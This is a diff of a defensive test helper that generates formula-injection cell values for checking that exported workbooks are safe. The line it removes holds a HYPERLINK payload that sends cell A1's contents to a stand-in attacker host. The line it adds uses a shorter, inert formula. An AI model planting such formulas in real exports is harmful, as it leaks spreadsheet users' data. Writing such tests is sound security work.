@@ -18,8 +18,10 @@ PREFIXES = ("=", "+", "-", "@", "\t", "\r")
 
 
 def hostile(prefix: str, name: str = "名称") -> str:
-    """A staff-entered name that would run as a formula: it calls HYPERLINK with the rest of the text."""
-    return f'{prefix}HYPERLINK("http://evil.example/?"&A1,"{name}")'
+    """A staff-entered name that would run as a formula: it calls HYPERLINK with the rest of the text.
+    Short enough for the shortest name field exported (a bank's short name: 20 characters), which
+    PostgreSQL enforces and SQLite does not."""
+    return f'{prefix}HYPERLINK("x","{name}")'
 
 
 def assert_safe_workbook(content: bytes, expected: str) -> None:
